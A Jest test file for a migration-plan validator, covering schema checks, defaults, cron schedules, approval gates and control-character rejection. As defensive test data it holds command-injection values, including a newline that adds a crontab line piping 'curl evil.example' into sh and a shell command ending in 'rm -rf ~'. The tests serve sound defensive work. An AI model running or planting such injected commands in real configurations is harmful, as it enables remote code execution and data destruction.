import fs from 'node:fs';
import path from 'node:path';
import Ajv from 'ajv';
import YAML from 'yaml';
import { loadPlan, PlanValidationError, validatePlan } from '../../client/plan';
import { planJsonSchema } from '../../model/plan-schema';
import { PLAN_SCHEMA_FILE } from '../../scripts/plan-schema';
import { planIssues } from '../helpers/plan-doc';

const plansDir = path.join(__dirname, '..', '..', 'plans');
const SHIPPED = ['demo.yaml', 'demo-hand-written.yaml', 'production.example.yaml'];
const readPlan = (file: string) =>
  YAML.parse(fs.readFileSync(path.join(plansDir, file), 'utf8')) as Record<string, any>;

describe('the plan JSON Schema', () => {
  it('is what the schema generates now', () => {
    const committed: unknown = JSON.parse(fs.readFileSync(PLAN_SCHEMA_FILE, 'utf8'));
    // Compared as text, so the order of the fields (the order editors offer them in) counts too.
    if (JSON.stringify(committed) !== JSON.stringify(planJsonSchema()))
      throw new Error('plans/plan.schema.json differs from model/plan-schema.ts: run `npm run plan-schema`');
  });

  it('is named on the first line of each shipped plan', () => {
    for (const file of SHIPPED) {
      const first = fs.readFileSync(path.join(plansDir, file), 'utf8').split('\n')[0];
      expect([file, first]).toEqual([file, '# yaml-language-server: $schema=./plan.schema.json']);
    }
  });

  // ajv 6 (installed for ESLint) validates draft-07, the draft the schema is generated for.
  const schema = JSON.parse(fs.readFileSync(PLAN_SCHEMA_FILE, 'utf8')) as object;
  const validate = new Ajv({ allErrors: true }).compile(schema);

  it('accepts both shipped plans', () => {
    for (const file of SHIPPED) {
      validate(readPlan(file));
      expect([file, validate.errors ?? []]).toEqual([file, []]);
    }
  });

  it('refuses an unknown field, a missing section and a malformed duration', () => {
    const doc = readPlan('demo.yaml');
    doc.rollout = {};
    delete doc.rollback;
    doc.durations.bake = 'soon';
    expect(validate(doc)).toBe(false);
    expect(validate.errors?.map((e) => `${e.dataPath} ${e.keyword}`)).toEqual(
      expect.arrayContaining([' additionalProperties', ' required', '.durations.bake pattern']),
    );
  });
});

describe('the normalised plan', () => {
  const demo = loadPlan(path.join(plansDir, 'demo.yaml'));
  const prod = loadPlan(path.join(plansDir, 'production.example.yaml'));

  it('has the fields in the order the workflow has always been given them', () => {
    expect(Object.keys(prod)).toEqual([
      'name',
      'description',
      'target',
      'legacyJobs',
      'unifiedJob',
      'scheduler',
      'traffic',
      'parallelRun',
      'metrics',
      'preflight',
      'durations',
      'approvals',
      'soak',
      'notifications',
      'archive',
      'rollback',
      'ledger',
      'successMetrics',
    ]);
  });

  it('folds check sources into `measure` and keeps only the optional fields that are set', () => {
    expect(prod.metrics[0]).toEqual({
      name: 'error-rate',
      op: '<=',
      threshold: 0.01,
      measure: { kind: 'sql', query: expect.stringContaining('count(*) from item_runs') },
      description: 'Error rate of the unified pipeline',
      failureLimit: 0,
      consecutiveFailureLimit: 0,
      inconclusiveLimit: 2,
      minSamples: 100,
    });
    expect(prod.metrics[4]!.dryRun).toBe(true);
    expect('dryRun' in prod.metrics[1]!).toBe(false);
    expect(demo.metrics[0]).toMatchObject({ failureLimit: 0, consecutiveFailureLimit: 0 });
    expect(prod.preflight[0]!.measure).toEqual({
      kind: 'command',
      command: ['/usr/local/bin/unified-pipeline', 'test', '--coverage'],
      pattern: 'coverage: ([0-9.]+)%',
      timeoutMs: 1_800_000,
    });
    expect(prod.parallelRun).toEqual({
      comparisonQuery: expect.stringContaining('as matched'),
      mismatchQuery: expect.stringContaining('l.quality_score <> s.quality_score'),
      minMatchRatio: 1,
    });
  });

  it('turns gate roles and durations into their normalised form', () => {
    expect(prod.approvals.gates.go).toEqual({
      roles: [{ role: 'technical-lead' }, { role: 'engineering-manager' }],
      timeoutMs: 3 * 86_400_000,
      onTimeout: 'notify-and-wait',
      remindEveryMs: 12 * 3_600_000,
    });
    expect(Object.keys(prod.approvals.gates)).toEqual(['go', 'cutover', 'sign-off']);
    expect(demo.approvals.gates.cutover).toEqual({
      roles: [{ role: 'technical-lead' }, { role: 'product-owner' }],
      timeoutMs: 600_000,
      onTimeout: 'notify-and-wait',
    });
    expect(prod.rollback.budgetMs).toBe(300_000);
    expect(demo.rollback.budgetMs).toBe(60_000);
  });

  it('resolves worker paths against the plan file and fills in the defaults', () => {
    const container = demo.unifiedJob.containers[0]!;
    expect(container.mounts).toEqual({
      [path.join(plansDir, '..', 'demo', 'system')]: '/app',
      [path.join(plansDir, '..', 'node_modules')]: '/node_modules',
    });
    expect(demo.target.backupDir).toBe(path.join(plansDir, '..', '.stack', 'demo', 'backups'));
    expect(demo.ledger).toEqual({ databaseUrlEnv: 'DEMO_DATABASE_URL', table: 'migration_ledger' });
    expect(demo.notifications).toEqual({});
    expect(demo.soak).toEqual({ onFailure: 'rollback' });
    expect(demo.archive).toEqual({ docs: ['docs/operations.md'], reason: expect.stringContaining('demo migration') });
  });

  it('gives a plan that leaves everything optional out the documented defaults', () => {
    const doc = readPlan('demo.yaml');
    for (const key of ['scheduler', 'soak', 'notifications', 'archive', 'successMetrics', 'ledger']) delete doc[key];
    doc.traffic = {};
    delete doc.rollback.budget;
    delete doc.approvals.separationOfDuties;
    delete doc.approvals.keysFile;
    delete doc.approvals.gates.go.timeout;
    doc.approvals.gates.go.roles = [
      { role: 'technical-lead', approvers: ['tina', 'tom'], required: 2 },
      { role: 'engineering-manager', required: 1 },
    ];
    doc.legacyJobs[0].script = './scripts//legacy/../legacy/batch_scorer.js';
    const plan = validatePlan(doc, 'plan.yaml', plansDir);
    expect(plan.scheduler).toEqual({ kind: 'crontab' });
    expect(plan.traffic).toEqual({ router: { kind: 'table', table: 'migration_routing' }, steps: [10, 25, 50, 100] });
    expect(plan.approvals.separationOfDuties).toBe(true);
    expect(plan.approvals.gates.go).toEqual({
      roles: [{ role: 'technical-lead', approvers: ['tina', 'tom'], required: 2 }, { role: 'engineering-manager' }],
      timeoutMs: 7 * 86_400_000,
      onTimeout: 'notify-and-wait',
    });
    expect(plan.soak).toEqual({ onFailure: 'rollback' });
    expect(plan.notifications).toEqual({});
    expect(plan.archive).toEqual({ docs: [], reason: 'Replaced by the unified pipeline' });
    expect(plan.rollback.budgetMs).toBe(300_000);
    expect(plan.successMetrics).toEqual([]);
    expect(plan.ledger).toEqual({ databaseUrlEnv: 'DEMO_DATABASE_URL', table: 'migration_ledger' });
    expect(plan.legacyJobs[0]!.script).toBe('scripts/legacy/batch_scorer.js');
  });

  it('applies every rule even when fields elsewhere fail (all problems at once)', () => {
    const doc = readPlan('demo.yaml');
    doc.traffic.steps = [1.5, 50, 25, 100]; // zod's own integer check would stop the rules around it
    doc.durations.bake = 'soon';
    doc.description = 'see mysql://root:pw@db/prod';
    doc.metrics[1].name = doc.metrics[0].name;
    doc.unifiedJob.name = doc.legacyJobs[0].name;
    let issues: { path: string; message: string }[] = [];
    try {
      validatePlan(doc, 'plan.yaml', plansDir);
    } catch (err) {
      if (!(err instanceof PlanValidationError)) throw err;
      issues = err.issues;
    }
    expect(issues.map((i) => `${i.path}: ${i.message}`)).toEqual(
      expect.arrayContaining([
        'traffic.steps[0]: expected a whole number, got 1.5',
        'traffic.steps[2]: expected steps to increase, got 25 after 50',
        'durations.bake: expected a duration such as 90s, 2h or 7d, got the string "soon"',
        expect.stringMatching(/^description: contains a URL with credentials/),
        'metrics[1].name: duplicate name "error-rate"',
        'unifiedJob.name: duplicate job name "batch-scorer" (also a legacy job)',
      ]),
    );
  });

  it('finds legacy jobs by line, match or schedule ID, each with its own scheduler, one way at a time', () => {
    const plan = loadPlan(path.join(plansDir, 'demo-hand-written.yaml'));
    expect(plan.legacyJobs.map((j) => j.match)).toEqual([
      'node scripts/legacy/batch_scorer.js',
      '/node (scripts\\/)?legacy\\/api_ingest_trust\\.js/',
    ]);
    const doc = readPlan('demo.yaml');
    doc.legacyJobs[0].line = '  * * * * * cd /srv && ./run.sh  ';
    doc.legacyJobs[0].match = 'run.sh';
    doc.legacyJobs[1].match = '/unclosed(/';
    doc.legacyJobs[1].scheduleId = 'nightly-scoring';
    let issues: string[] = [];
    try {
      validatePlan(doc, 'plan.yaml', plansDir);
    } catch (err) {
      if (!(err instanceof PlanValidationError)) throw err;
      issues = err.issues.map((i) => `${i.path}: ${i.message}`);
    }
    expect(issues).toEqual([
      'legacyJobs[0].match: give either line or match, not both',
      'legacyJobs[1].match: expected a valid regular expression between the slashes',
      'legacyJobs[1].scheduleId: only with scheduler kind temporal-schedule',
    ]);
    delete doc.legacyJobs[0].match;
    delete doc.legacyJobs[1].match;
    delete doc.legacyJobs[1].scheduleId;
    // The whole line is kept as written, but for the blanks around it.
    expect(validatePlan(doc, 'plan.yaml', plansDir).legacyJobs[0]!.line).toBe('* * * * * cd /srv && ./run.sh');
  });

  it('reports issues of an already parsed plan without a position', () => {
    const doc = readPlan('demo.yaml');
    doc.durations.bake = 'soon';
    try {
      validatePlan(doc, 'plan.yaml', plansDir);
      throw new Error('the plan was accepted');
    } catch (err) {
      if (!(err instanceof PlanValidationError)) throw err;
      expect(err.issues.map((i) => Object.keys(i))).toEqual([['path', 'message']]);
      expect(err.message).toBe(
        'plan plan.yaml is not valid:\n  - durations.bake: expected a duration such as 90s, 2h or 7d, got the string "soon"',
      );
    }
  });
});

describe('validation that means it: schedules, single-line strings and gates that can be signed', () => {
  const messages = (doc: unknown) => planIssues(doc).map((i) => `${i.path}: ${i.message}`);
  const SINGLE_LINE = 'commands, paths and schedules are single lines';

  it("refuses the issue's three examples, naming the field", () => {
    const doc = readPlan('demo.yaml');
    doc.legacyJobs[0].schedule = '99 99 99 99 99';
    doc.legacyJobs[1].schedule = 'A=1 * * * *';
    // A newline in an argument survived the quoting and added a crontab line of its own.
    doc.unifiedJob.command = ['node', '{repository}/scripts/unified.js\n* * * * * curl evil.example | sh'];
    expect(messages(doc)).toEqual([
      `unifiedJob.command[1]: contains a control character (\\n at position 32): ${SINGLE_LINE}`,
      'legacyJobs[0].schedule: minute field "99" is out of range 0-59; hour field "99" is out of range 0-23; ' +
        'day-of-month field "99" is out of range 1-31; month field "99" is out of range 1-12; ' +
        'day-of-week field "99" is out of range 0-7',
      'legacyJobs[1].schedule: minute field "A=1" is not a number 0-59',
    ]);
  });

  it("reads schedules as the plan's scheduler does", () => {
    const doc = readPlan('demo.yaml');
    doc.legacyJobs[0].schedule = '@reboot';
    doc.unifiedJob.schedule = '@every 5m';
    expect(messages(doc)).toEqual([
      expect.stringMatching(/^unifiedJob\.schedule: "@every 5m" is not a crontab schedule \(expected one of @reboot/),
    ]);
    doc.scheduler = { kind: 'temporal-schedule' };
    expect(messages(doc)).toEqual([expect.stringMatching(/^legacyJobs\[0\]\.schedule: "@reboot" is not a Temporal/)]);
    doc.legacyJobs[0].schedule = '5/15 9-17 * * mo-fr';
    expect(messages(doc)).toEqual([]);
  });

  it.each([
    [
      'legacyJobs[0].command[1]',
      (d: Record<string, any>) => (d.legacyJobs[0].command[1] = 'x.js\n'),
      '\\n at position 5',
    ],
    [
      'unifiedJob.containers[0].command[0]',
      (d: Record<string, any>) => (d.unifiedJob.containers[0].command[0] = '/app/u\r.js'),
      '\\r',
    ],
    ['preflight[0].command[2]', (d: Record<string, any>) => (d.preflight[0].command[2] = 'cover\tage'), '\\t'],
    [
      'preflight[0].command',
      (d: Record<string, any>) => Object.assign(d.preflight[0], { shell: true, command: 'node x.js\nrm -rf ~' }),
      '\\n',
    ],
    ['preflight[0].cwd', (d: Record<string, any>) => (d.preflight[0].cwd = 'sub\0dir'), '\\0'],
    [
      'traffic.router.command[1]',
      (d: Record<string, any>) => (d.traffic.router = { kind: 'command', command: ['route', '{percent}\n'] }),
      '\\n',
    ],
    ['target.repository', (d: Record<string, any>) => (d.target.repository = '../.stack/demo/repo\n'), '\\n'],
    ['target.backupDir', (d: Record<string, any>) => (d.target.backupDir = 'backups\x1b'), '\\x1b'],
    ['target.reportDir', (d: Record<string, any>) => (d.target.reportDir = 'reports\x7f'), '\\x7f'],
    ['legacyJobs[0].script', (d: Record<string, any>) => (d.legacyJobs[0].script = 'scripts/a\nb.js'), '\\n'],
    ['archive.docs[0]', (d: Record<string, any>) => (d.archive.docs = ['docs/ops\n.md']), '\\n'],
    ['archive.reason', (d: Record<string, any>) => (d.archive.reason = 'Done\n\nMigration-Id: other'), '\\n'],
    [
      'unifiedJob.containers[0].mounts.../demo/system',
      (d: Record<string, any>) => (d.unifiedJob.containers[0].mounts['../demo/system'] = '/app\n'),
      '\\n',
    ],
    [
      'unifiedJob.containers[0].mounts.ops\nlogs',
      (d: Record<string, any>) => (d.unifiedJob.containers[0].mounts['ops\nlogs'] = '/logs'),
      '\\n',
    ],
    [
      'unifiedJob.schedule',
      (d: Record<string, any>) => (d.unifiedJob.schedule = '* * * * *\n* * * * * evil'),
      '\\n at position 10',
    ],
    ['legacyJobs[0].line', (d: Record<string, any>) => (d.legacyJobs[0].line = '* * * * * run\nx'), '\\n'],
    ['legacyJobs[1].match', (d: Record<string, any>) => (d.legacyJobs[1].match = 'api_ingest\0'), '\\0'],
    ['approvals.keysFile', (d: Record<string, any>) => (d.approvals.keysFile = 'keys\n'), '\\n'],
  ])('refuses a control character in %s', (path, change, shown) => {
    const doc = readPlan('demo.yaml');
    change(doc);
    expect(planIssues(doc)).toEqual([
      {
        path,
        message: expect.stringMatching(new RegExp(`^contains a control character \\(${shown.replace(/\\/g, '\\\\')}`)),
      },
    ]);
    expect(planIssues(doc)[0]!.message).toContain(SINGLE_LINE);
  });

  it('takes a crontab line with the tabs its owner aligned it with (line and match), not with a newline', () => {
    const doc = readPlan('demo.yaml');
    doc.legacyJobs[0].line = '*/5\t*\t*\t*\t*\tcd /srv/scorer && node batch_scorer.js';
    doc.legacyJobs[1].match = 'api_ingest\t';
    expect(planIssues(doc)).toEqual([]);
    doc.legacyJobs[0].line = '*/5 * * * * run\n* * * * * evil';
    expect(messages(doc)).toEqual([
      'legacyJobs[0].line: contains a control character (\\n at position 16): commands, paths and schedules are single lines (a crontab line may hold tabs)',
    ]);
  });

  it('lets free text keep its tabs and line breaks, but no other control character', () => {
    const doc = readPlan('demo.yaml');
    doc.description = 'Migrate the scorer.\n\tStep one: shadow.\r\n';
    doc.metrics[0].description = 'Error rate\t(unified)';
    doc.parallelRun.mismatchSql = 'select 1\n\tfrom scores';
    expect(planIssues(doc)).toEqual([]);
    doc.description = 'Migrate\x1b[2J';
    expect(messages(doc)).toEqual([
      'description: contains a control character (\\x1b at position 8): only tabs and line breaks belong in text',
    ]);
  });

  it('refuses a gate its allow-lists can never sign with separation of duties', () => {
    const doc = readPlan('demo.yaml');
    delete doc.approvals.keysFile;
    doc.approvals.gates.cutover.roles = [
      { role: 'sre', approvers: ['alice', 'bob'], required: 2 },
      { role: 'dba', approvers: ['alice', 'bob'] },
    ];
    expect(messages(doc)).toEqual([
      'approvals.gates.cutover: cannot be signed: with separationOfDuties, roles sre (2) and dba (1) need 3 different people but their approvers are only alice, bob',
    ]);
    doc.approvals.separationOfDuties = false;
    expect(messages(doc)).toEqual([]);
    // A role's own quorum is reported at the role, once.
    doc.approvals.gates.cutover.roles[0].required = 3;
    expect(messages(doc)).toEqual([
      'approvals.gates.cutover.roles[0].required: expected at most 2 (the distinct approvers on the allow-list), got 3',
    ]);
  });

  it('with keys, refuses a gate that needs more people than have a key', () => {
    const doc = readPlan('production.example.yaml');
    const signOff = doc.approvals.gates['sign-off'] as { roles: unknown[] };
    // Five people have a key in plans/approvers.allowed_signers; six roles need six different people.
    signOff.roles.push({ role: 'auditor' }, { role: 'security' });
    expect(messages(doc)).toEqual([
      'approvals.gates.sign-off: cannot be signed: with separationOfDuties, roles technical-lead (1), product-owner (1), ' +
        'engineering-manager (1), stakeholder (1), auditor (1) and security (1) need 6 different people but only ' +
        'tina, tom, paula, emma, sam can sign them (the plan lists keys: only people with a key sign)',
    ]);
    signOff.roles.pop();
    expect(messages(doc)).toEqual([]);
  });
});
